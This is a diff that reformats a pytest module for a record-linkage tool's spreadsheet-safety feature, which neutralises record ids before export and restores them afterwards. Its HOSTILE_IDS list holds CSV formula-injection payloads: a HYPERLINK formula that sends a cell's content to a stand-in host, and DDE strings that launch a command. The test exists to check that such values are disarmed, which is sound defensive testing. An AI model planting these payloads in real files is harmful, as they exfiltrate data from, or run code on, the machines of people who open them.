@@ -15,9 +15,14 @@ from linkage.excel_safe import FORMULA_START, neutralise, restore
 from linkage.report.review import TEXT_COLUMNS
 
 #: Record ids as a hostile or careless source might send them.
-HOSTILE_IDS = ['=HYPERLINK("http://x.example/?a"&A1,"open")', "+cmd|' /C calc'!A0",
-               "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "'=quoted already",
-               "=1+1"]
+HOSTILE_IDS = [
+    '=HYPERLINK("http://x.example/?a"&A1,"open")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "'=quoted already",
+    "=1+1",
+]
 
 
 def nser_link(capsys, *args) -> tuple[int, str]:
@@ -35,14 +40,24 @@ def hostile_run(generated, first_run, tmp_path_factory):
     wave = pd.read_csv(generated / "wave_2021.csv", dtype=str, keep_default_na=False)
     pairs = pd.read_parquet(first_run[0] / "pairs.parquet")
     paired = list(dict.fromkeys([*pairs["record_id_l"], *pairs["record_id_r"]]))
-    renamed = dict(zip(paired[:len(HOSTILE_IDS)], HOSTILE_IDS, strict=True))
+    renamed = dict(zip(paired[: len(HOSTILE_IDS)], HOSTILE_IDS, strict=True))
     wave["record_id"] = wave["record_id"].replace(renamed)
     wave.to_csv(folder / "wave.csv", index=False)
     out = folder / "run"
     # at 0.7 the review's lowest band starts below weight 0: a label starting with "-"
     with pytest.raises(SystemExit) as info:
-        main(["dedupe", str(folder / "wave.csv"), "--out", str(out), "--model",
-              str(first_run[0] / "model.json"), "--threshold", "0.7"])
+        main(
+            [
+                "dedupe",
+                str(folder / "wave.csv"),
+                "--out",
+                str(out),
+                "--model",
+                str(first_run[0] / "model.json"),
+                "--threshold",
+                "0.7",
+            ]
+        )
     assert info.value.code == 0
     return out, {new: old for old, new in renamed.items()}
 
@@ -72,9 +87,10 @@ def test_review_score_reads_the_neutralised_ids_back(capsys, generated, hostile_
     def person(record_id: str):
         return truth[old_id.get(restore(record_id), restore(record_id))]
 
-    labelled["decision"] = ["match" if person(a) == person(b) else "non-match"
-                            for a, b in zip(labelled["record_id_l"], labelled["record_id_r"],
-                                            strict=True)]
+    labelled["decision"] = [
+        "match" if person(a) == person(b) else "non-match"
+        for a, b in zip(labelled["record_id_l"], labelled["record_id_r"], strict=True)
+    ]
     labelled.to_csv(sample, index=False)  # as a clerk's spreadsheet saves it
     code, printed = nser_link(capsys, "review", "score", run, sample)
     assert code == 0, printed
